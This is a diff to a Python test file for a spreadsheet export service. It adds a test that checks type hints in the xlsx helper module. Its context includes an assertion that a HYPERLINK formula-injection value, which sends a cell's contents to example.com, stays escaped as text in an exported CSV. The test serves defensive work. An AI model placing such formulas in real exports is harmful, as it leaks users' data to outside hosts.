@@ -102,3 +102,21 @@ def test_a_workbook_value_stays_text_in_the_outbox_inventory(settings, tmp_path:
     )
     text = (out / "Опись.csv").read_text(encoding="utf-8")
     assert '"=HYPERLINK(""http://example.com/?leak=""&A1,""МБОУ Идринская СОШ"")"' in text
+
+
+def test_every_function_of_the_xlsx_helpers_has_type_hints():
+    """STYLE: type hints on public functions. The ZIP that dates a workbook's parts overrode
+    ``ZipFile.writestr`` and ``write`` without any (left17)."""
+    import ast
+
+    import service.xlsx
+
+    source = Path(service.xlsx.__file__).read_text(encoding="utf-8")
+    bare = []
+    for node in ast.walk(ast.parse(source)):
+        if isinstance(node, ast.FunctionDef):
+            arguments = [*node.args.posonlyargs, *node.args.args, *node.args.kwonlyargs]
+            unhinted = [a.arg for a in arguments if a.annotation is None and a.arg != "self"]
+            if unhinted or node.returns is None and node.name != "__init__":
+                bare.append(f"{node.name}({', '.join(unhinted)})")
+    assert bare == []
